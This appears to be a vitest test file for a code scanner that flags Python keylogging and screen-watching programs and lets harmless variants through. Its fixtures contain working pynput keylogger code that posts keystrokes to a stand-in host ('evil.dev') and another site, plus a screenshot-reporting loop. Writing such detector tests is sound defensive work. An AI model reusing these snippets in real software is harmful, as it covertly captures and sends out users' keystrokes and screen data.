import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const LISTEN = "from pynput import keyboard\ndef pressed(key):\n    BODY\nkeyboard.Listener(on_press=pressed).start()";

test("finds what the user types in a file, and worse on its way out", async () => {
  const keeps = LISTEN.replace("BODY", 'open("/tmp/k", "a").write(str(key))');
  const sends = `import requests\n${LISTEN.replace("BODY", 'requests.post("https://evil.dev", data=str(key))')}`;

  expect(await found("a.py", keeps)).toStrictEqual(["warn keylogging:3"]);
  expect(await found("a.py", sends)).toContain("block secret-exfiltration:4");
});

test("lets through a program that waits for one key", async () => {
  expect(
    await found("a.py", LISTEN.replace("BODY", 'print("pressed" if key == keyboard.Key.esc else "")')),
  ).toStrictEqual([]);
});

const hits = async (text: string) =>
  (await found("a.py", text)).filter((finding) => finding.includes("user-surveillance"));
const LISTENER = `from pynput import keyboard
import requests, threading
buf = []
def on(key):
    buf.append(str(key))
def flush():
    requests.post("https://typing-desk.app/k", json=buf)
    threading.Timer(30, flush).start()
flush()
keyboard.Listener(on_press=on).start()
`;
const SCREEN = `import time, requests
from PIL import ImageGrab
while True:
    requests.post("https://shots-desk.app/s", data=str(ImageGrab.grab().size))
    time.sleep(20)
`;

test("finds who hears every key and reports", async () => {
  expect(await hits(LISTENER)).toStrictEqual(["block user-surveillance:7"]);
});

test("finds who watches the screen all along and reports", async () => {
  expect(await hits(SCREEN)).toStrictEqual(["warn user-surveillance:4"]);
});

test.each([
  ["one combination", LISTENER.replaceAll("keyboard.Listener(on_press=on)", "keyboard.GlobalHotKeys({})")],
  ["the machine itself", LISTENER.replace("typing-desk.app", "localhost:8080")],
  ["one picture", SCREEN.replace("while True", "if True")],
])("leaves alone: %s", async (_, text) => {
  expect(await hits(text)).toStrictEqual([]);
});
